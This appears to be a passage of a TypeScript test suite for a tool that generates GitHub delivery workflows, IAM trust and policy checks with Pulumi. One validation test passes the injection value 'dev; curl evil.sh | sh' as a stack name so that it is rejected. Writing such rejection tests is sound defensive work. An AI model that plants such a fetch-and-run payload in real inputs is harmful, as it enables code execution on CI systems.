            );
            const branch = one(run, "github:index/branch:Branch", "repo-workflows-branch");
            const files = ofType(run, "github:index/repositoryFile:RepositoryFile");
            expect(new Set(files.map((f) => f.inputs.branch))).to.deep.equal(new Set([branch.inputs.branch]));
            return {
                branch: String(branch.inputs.branch),
                source: String(branch.inputs.sourceBranch),
                replaceOnChanges: options["repo-workflows-branch"],
                files: Object.fromEntries(files.map((f) => [String(f.inputs.file), String(f.inputs.content)])),
            };
        }
        /**
         * Applies a plan as Pulumi and the GitHub provider would: a new branch name replaces the branch
         * (created from the source's tip) when `replaceOnChanges` names it, else the provider renames the
         * old one in place; the files (ForceNew on their branch) are written and committed there.
         */
        function up(git: ReturnType<typeof gitIn>, dir: string, plan: Planned, state?: Planned): Planned {
            const exists = (b: string) => git("branch", "--list", b).trim() !== "";
            if (state === undefined || state.branch !== plan.branch) {
                if (state !== undefined && !plan.replaceOnChanges.includes("branch") && exists(state.branch))
                    git("branch", "-m", state.branch, plan.branch);
                else if (!exists(plan.branch)) git("branch", plan.branch, plan.source);
            }
            git("checkout", "-q", plan.branch);
            for (const [file, content] of Object.entries(plan.files)) {
                if (state?.branch === plan.branch && state.files[file] === content) continue;
                fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
                fs.writeFileSync(path.join(dir, file), content);
                git("add", file);
                git("commit", "-q", "--allow-empty", "-m", `Runway: update ${file}`);
            }
            git("checkout", "-q", "main");
            return plan;
        }
        /** GitHub's three merge methods; `false` when the pull request has a conflict. */
        function merge(git: ReturnType<typeof gitIn>, method: string, branch: string): boolean {
            try {
                if (method === "merge") git("merge", "-q", "--no-ff", "-m", `Merge ${branch}`, branch);
                if (method === "squash") {
                    git("merge", "-q", "--squash", branch);
                    git("commit", "-q", "-m", `Squash ${branch}`);
                }
                if (method === "rebase")
                    for (const c of git("rev-list", "--reverse", `main..${branch}`).split("\n").filter(Boolean))
                        git("cherry-pick", "--allow-empty", c);
                return true;
            } catch {
                return false;
            }
        }

        /** A repository whose main branch has one commit, as GitHub creates it. */
        function newRepository(): { dir: string; git: ReturnType<typeof gitIn> } {
            const dir = fs.mkdtempSync(path.join(os.tmpdir(), "runway-merge-"));
            const git = gitIn(dir);
            git("init", "-q", "-b", "main");
            fs.writeFileSync(path.join(dir, "README.md"), "app\n");
            git("add", "README.md");
            git("commit", "-q", "-m", "app");
            return { dir, git };
        }
        /** main (checked out) holds exactly the files the stack wants. */
        function expectMainHolds(dir: string, files: Record<string, string>): void {
            for (const [file, content] of Object.entries(files))
                expect(fs.readFileSync(path.join(dir, file), "utf8"), file).to.equal(content);
        }

        for (const method of ["merge", "squash", "rebase"])
            for (const autoDelete of [false, true])
                it(`${method} merge${autoDelete ? ", head branch deleted after the merge" : ""}: the next change merges cleanly and main holds exactly what the stack wants`, async () => {
                    const { dir, git } = newRepository();
                    const first = up(git, dir, await planned("/health"));
                    expect(merge(git, method, first.branch), "first pull request").to.equal(true);
                    if (autoDelete) git("branch", "-D", first.branch);
                    const second = up(git, dir, await planned("/ready"), first);
                    expect(second.branch).to.not.equal(first.branch);
                    expect(merge(git, method, second.branch), "the next pull request has no conflict").to.equal(true);
                    expectMainHolds(dir, second.files);
                    // Nothing changed: the same branch, no commit, nothing to merge.
                    const tip = git("rev-parse", second.branch);
                    const third = up(git, dir, await planned("/ready"), second);
                    expect([third.branch, git("rev-parse", second.branch)]).to.deep.equal([second.branch, tip]);
                    fs.rmSync(dir, { recursive: true, force: true });
                });

        it("a change before the last pull request merged: the new branch carries every file, and merging it alone is enough", async () => {
            const { dir, git } = newRepository();
            const first = up(git, dir, await planned("/health"));
            const second = up(git, dir, await planned("/ready"), first);
            expect(merge(git, "squash", second.branch)).to.equal(true);
            expectMainHolds(dir, second.files);
            fs.rmSync(dir, { recursive: true, force: true });
        });
    });

    it("a deploy that waits for a reviewer keeps its scanned image for GitHub's 30-day approval window; others keep it a day", async () => {
        const retention = async (tier: string, reviewers: string[]) => {
            const run = await record(
                () =>
                    new github.Repository("repo", {
                        owner: "acme",
                        repo: "shop",
                        delivery: settings(tier),
                        variables,
                        reviewers,
                        manageRepository: false,
                    }),
            );
            const file = ofType(run, "github:index/repositoryFile:RepositoryFile").find((f) => /deploy-/.test(String(f.inputs.file)))!;
            const upload = parse(String(file.inputs.content)).jobs.security.steps.find((s: any) => s.with?.name === "runway-image");
            return upload.with["retention-days"];
        };
        expect(await retention("production", ["ana"])).to.equal(30);
        expect(await retention("staging", ["ana"]), "staging with reviewers waits too").to.equal(30);
        expect(await retention("staging", [])).to.equal(1);
        expect(await retention("solo", [])).to.equal(1);
    });

    it("refuses settings GitHub does not sell the repository before creating anything, when told its visibility and plan", async () => {
        const production = { owner: "acme", repo: "shop", delivery: settings("production"), variables, reviewers: ["ana"] };
        await expectRejected(
            () => new github.Repository("repo", { ...production, visibility: "private", plan: "team" }),
            /Repository\(repo\)\.plan = "team": a private repository on GitHub Team cannot have required reviewers on an environment/,
        );
        await record(() => new github.Repository("repo", { ...production, visibility: "private", plan: "enterprise" }));
        await record(() => new github.Repository("repo", { ...production, visibility: "public" }));
        // Staging without reviewers: environments only (Team sells them); without a visibility nothing is checked.
        const staging = { owner: "acme", repo: "shop", delivery: settings("staging"), variables, manageRepository: false };
        await record(() => new github.Repository("repo", { ...staging, visibility: "private", plan: "team" }));
        await expectRejected(
            () => new github.Repository("repo", { ...staging, visibility: "private" }),
            /Repository\(repo\)\.plan = "free": a private repository on GitHub Free cannot have branch protection \(.*reviewed pull requests into the staging branch\).*; deployment environments/,
        );
        await record(() => new github.Repository("repo", staging));
    });

    it("rejects production without reviewers and malformed names before creating anything", async () => {
        await expectRejected(
            () => new github.Repository("repo", { owner: "acme corp", repo: "shop", delivery: settings("production"), variables }),
            /Repository\(repo\)\.owner = "acme corp"[\s\S]*Repository\(repo\)\.reviewers = \[\]: at least one GitHub user/,
        );
        // Stack names become file names, branch names and words of the preview workflow's shell loop.
        await expectRejected(
            () =>
                new github.Repository("repo", {
                    owner: "acme",
                    repo: "shop",
                    delivery: settings("solo", { stack: "../ci", previewStacks: ["dev; curl evil.sh | sh"] }),
                    variables,
                }),
            /Repository\(repo\)\.delivery\.stack = "\.\.\/ci": Pulumi stack names[\s\S]*Repository\(repo\)\.delivery\.previewStacks = "dev; curl evil\.sh \| sh": Pulumi stack names/,
        );
    });
});

describe("how a Cloud Run deploy reaches its service (pure)", () => {
    it("calls the candidate unless only the load balancer may; behind an edge, calls the edge after the shift", () => {
        expect(cloudRunChecks({ access: "public", behindEdge: false, edgeUrl: false })).to.deep.equal({ candidate: "http" });
        expect(cloudRunChecks({ access: "iap", behindEdge: false, edgeUrl: false })).to.deep.equal({ candidate: "iap" });
        expect(cloudRunChecks({ access: "public", behindEdge: true, edgeUrl: true })).to.deep.equal({
            candidate: "revision-ready",
            edge: "http",
        });
        expect(cloudRunChecks({ access: "iap", behindEdge: true, edgeUrl: true })).to.deep.equal({
            candidate: "revision-ready",
            edge: "iap",
        });
        expect(cloudRunChecks({ access: "public", behindEdge: true, edgeUrl: false })).to.deep.equal({ candidate: "revision-ready" });
    });

    it("gcp.SmokeTestAccess admits the deployer to exactly one IAP resource", async () => {
        const base = { deployer: "projects/p/serviceAccounts/d@p.iam.gserviceaccount.com", deployerEmail: "d@p.iam.gserviceaccount.com" };
        await expectRejected(() => new gcp.SmokeTestAccess("smoke", base), /SmokeTestAccess\(smoke\).*exactly one of cloudRunService/);
        const run = await record(
            () => new gcp.SmokeTestAccess("smoke", { ...base, backendService: { project: "p", name: "edge-backend" } }),
        );
        const access = one(run, "gcp:iap/webBackendServiceIamMember:WebBackendServiceIamMember", "smoke-iap-access");
        expect(access.inputs).to.include({ webBackendService: "edge-backend", role: "roles/iap.httpsResourceAccessor" });
        expect(one(run, "gcp:serviceaccount/iAMMember:IAMMember", "smoke-sign-jwt").inputs).to.include({
            serviceAccountId: base.deployer,
            role: "roles/iam.serviceAccountTokenCreator",
            member: "serviceAccount:d@p.iam.gserviceaccount.com",
        });
    });
});

describe("GitHub delivery in whole stacks", function () {
    this.timeout(60000);

    it("a stack not named after its tier (aws-solo, as init names it) commits workflows that plan, preview and deploy aws-solo, and its deployer trusts that file", async () => {
        // The plan tests/helpers/trust.ts's "aws solo" repository shares.
        const { document } = await planStack("aws-solo", { "runway:githubReviewers": '["example-reviewer"]' });
        const files = Object.fromEntries(
            document.resources
                .filter((r) => r.type === "github:index/repositoryFile:RepositoryFile")
                .map((r) => [String(r.inputs.file), String(r.inputs.content)]),
        );
        expect(Object.keys(files).filter((f) => f.includes("/deploy-"))).to.deep.equal([".github/workflows/deploy-aws-solo.yml"]);
        const plans = parse(files[".github/workflows/runway-preview.yml"])
            .jobs.plan.steps.filter((s: any) => String(s.run).includes("runway-iac plan"))
            .map((s: any) => String(s.run).match(/for stack in ([^;]*);/)![1]);
        expect(plans).to.deep.equal(["aws-solo", "aws-solo"]);
        const real = jobsOf(files[".github/workflows/runway-pulumi-preview.yml"])["pulumi-preview"];
        expect(real.strategy.matrix.stack).to.deep.equal(["aws-solo"]);
        expect(
            document.resources.some(
                (r) =>
                    r.type === "github:index/repositoryEnvironment:RepositoryEnvironment" &&
                    r.inputs.environment === "runway-preview-aws-solo",
            ),
        ).to.equal(true);
        const deployer = document.resources.find((r) => r.type === "aws:iam/role:Role" && r.name === "ci-deploy-solo")!;
        expect(String(deployer.inputs.assumeRolePolicy)).to.include(
            "example-org/example-app/.github/workflows/deploy-aws-solo.yml@refs/heads/main",
        );
    });

    it("the deploy job's environment is what the production deployer trusts", async () => {
        const { document } = await planStack("production");
        const file = document.resources.find((r) => r.inputs.file === ".github/workflows/deploy-production.yml")!;
        const environment = jobsOf(String(file.inputs.content)).deploy.environment;
        const wif = document.resources.find((r) => r.inputs.role === "roles/iam.workloadIdentityUser")!;
        expect(wif.inputs.member).to.match(new RegExp(`/attribute\\.runway_trust/environment:${environment}$`));
        const variables = document.resources.filter(
            (r) => r.type === "github:index/actionsEnvironmentVariable:ActionsEnvironmentVariable" && r.inputs.environment === environment,
        );
        expect(variables.map((v) => v.inputs.variableName).sort()).to.deep.equal(
            [...github.variablesFor("cloud-run", { edge: true, release: { dashboard: true } })].sort(),
        );
    });

    it("each GCP tier's deploy job reaches its service over HTTP where it can, and the deployer may do exactly that", async () => {
        const smoke = (resources: any[], name: string) =>
            jobsOf(
                String(resources.find((r) => r.inputs.file?.startsWith?.(".github/workflows/deploy-")).inputs.content),
            ).deploy.steps.find((s: any) => s.name === name);
        const staging = (await planStack("staging")).document;
        expect(smoke(staging.resources, "Smoke test the new revision").run).to.include("sign-jwt").and.include('"${CANDIDATE%/}/health"');
        const deployer = "serviceAccount:app-staging-deploy@runway-staging-example.iam.gserviceaccount.com";
        const grants = staging.resources.filter((r) => r.parent?.includes("SmokeTestAccess"));
        expect(grants.map((r) => [r.type, r.inputs.role, r.inputs.member])).to.deep.equal([
            ["gcp:serviceaccount/iAMMember:IAMMember", gcp.SELF_SIGN_ROLE, deployer],
            ["gcp:iap/webCloudRunServiceIamMember:WebCloudRunServiceIamMember", gcp.IAP_ACCESSOR_ROLE, deployer],
        ]);
        // It signs as itself only: the grant is on the account GitHub's staging token becomes, and nowhere else.
        const wif = staging.resources.find((r) => r.name === "ci-deploy-staging-wif")!;
        expect(grants[0].inputs.serviceAccountId).to.be.a("string").and.equal(wif.inputs.serviceAccountId);
        const production = (await planStack("production")).document;
        expect(smoke(production.resources, "Smoke test the new revision").run).to.include("gcloud run revisions describe");
        expect(smoke(production.resources, "Smoke test through the edge").run).not.to.include("sign-jwt");
        const edgeUrl = production.resources.find((r) => r.inputs.variableName === github.EDGE_URL_VARIABLE)!;
        expect(edgeUrl.inputs.value).to.equal(production.outputs.url);
        expect(production.resources.filter((r) => String(r.parent ?? "").includes("SmokeTestAccess"))).to.deep.equal([]);
        const solo = (await planStack("solo")).document;
        expect(smoke(solo.resources, "Smoke test the new revision").run).to.match(/^url=.*\ncurl --fail [^\n]* "\$url"$/);
    });

    it("a second up that changes a workflow writes only to the workflows branch, never to the branch the stack protects", async () => {
        // Solo protects the default branch it deploys from, and its smoke test calls the health path.
        const first = (await planStack("solo")).document.resources;
        const second = (await planStack("solo", { "runway:healthPath": "/ready" })).document.resources;
        const deployFile = (rs: typeof first) => rs.find((r) => r.inputs.file === ".github/workflows/deploy-solo.yml")!;
        expect(deployFile(second).inputs.content, "the change reaches the workflow").to.not.equal(deployFile(first).inputs.content);
        for (const resources of [first, second]) {
            const guarded = resources
                .filter(
                    (r) =>
                        r.type === "github:index/branchProtection:BranchProtection" &&
                        (r.inputs.requiredPullRequestReviews || r.inputs.requiredStatusChecks),
                )
                .map((r) => String(r.inputs.pattern));
            expect(guarded).to.deep.equal(["main"]);
            const files = resources.filter((r) => r.type === "github:index/repositoryFile:RepositoryFile");
            expect(files.length).to.be.at.least(1);
            for (const f of files)
                expect(
                    guarded.some((p) => matchesPattern(String(f.inputs.branch), p)),
                    String(f.inputs.file),
                ).to.equal(false);
        }
    });

    it("previews run as a read-only previewer trusted only in the stack's approval-gated preview environment; nothing trusts pull_request", async () => {
        const { document } = await planStack("production");
        const bindings = document.resources.filter((r) => r.inputs.role === "roles/iam.workloadIdentityUser");
        expect(bindings.map((b) => String(b.inputs.member).replace(/^.*\/attribute\.runway_trust\//, "")).sort()).to.deep.equal([
            "environment:production",
            "environment:runway-preview-production",
        ]);
        // One custom role of refresh reads, granted project-wide; no predefined or primitive project role.
        const projectGrants = document.resources.filter(
            (r) => r.type === "gcp:projects/iAMMember:IAMMember" && r.name.startsWith("ci-preview-"),
        );
        expect(projectGrants.map((r) => r.name)).to.deep.equal(["ci-preview-reads"]);
        expect(projectGrants[0].propertyDependencies.role).to.include(
            document.resources.find((r) => r.name === "ci-preview-reads" && r.type.endsWith("IAMCustomRole"))!.urn,
        );
        expect(PRIMITIVE_ROLES).not.to.include(projectGrants[0].inputs.role);
        const environment = document.resources.find(
            (r) =>
                r.type === "github:index/repositoryEnvironment:RepositoryEnvironment" &&
                r.inputs.environment === "runway-preview-production",
        )!;
        expect(environment.inputs).to.include({ canAdminsBypass: false, preventSelfReview: false });
        expect(environment.inputs.reviewers).to.deep.equal([{ users: [13810239] }]);
        const previewVariables = document.resources
            .filter(
                (r) =>
                    r.type === "github:index/actionsEnvironmentVariable:ActionsEnvironmentVariable" &&
                    r.inputs.environment === "runway-preview-production",
            )
            .map((r) => r.inputs.variableName);
        expect(previewVariables.sort()).to.deep.equal(
            [github.PREVIEW_VARIABLES.workloadIdentityProvider, github.PREVIEW_VARIABLES.serviceAccount].sort(),
        );
        const staging = (await planStack("staging")).document.resources;
        expect(
            staging.filter((r) => r.name === "ci-preview"),
            "staging has no reviewers, so no previewer",
        ).to.deep.equal([]);
    });

    it("a stack whose workflow is edited to soft-fail trivy fails the policy pack", async () => {
        const project = loadProjectConfig(ROOT, "staging", {});
        const run = await runProject(project, "staging");
        const file = run.resources.find((r) => r.inputs.file === ".github/workflows/deploy-staging.yml")!;
        const inputs = run.wireInputs.get(file.urn) as { toJavaScript(): Record<string, unknown> };
        const edited = { ...inputs.toJavaScript() };
        edited.content = String(edited.content).replace("- name: Image scan\n", "- name: Image scan\n        continue-on-error: true\n");
        const wireInputs = new Map(run.wireInputs);
        wireInputs.set(file.urn, Struct.fromJavaScript(edited));
        const before = await runPolicies(
            runwayPolicyPack(),
            run,
            {},
            { "non-root-images": { dockerfileRoot: ROOT }, "root-build-stages": { dockerfileRoot: ROOT } },
        );
        expect(before.violations).to.deep.equal([]);
        const after = await runPolicies(
            runwayPolicyPack(),
            { resources: run.resources, wireInputs },
            {},
            { "non-root-images": { dockerfileRoot: ROOT }, "root-build-stages": { dockerfileRoot: ROOT } },
        );
        expect(after.violations.map((v) => [v.policy, v.level])).to.deep.equal([["blocking-scans", "mandatory"]]);
        expect(after.violations[0].message).to.include('step "Image scan" has continue-on-error: true');
    });
});
